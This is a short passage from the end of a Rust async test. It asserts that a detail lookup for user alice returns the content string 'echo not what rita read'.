        assert_eq!(detail(&alice, &path).await["content"], "echo not what rita read");
    }
}
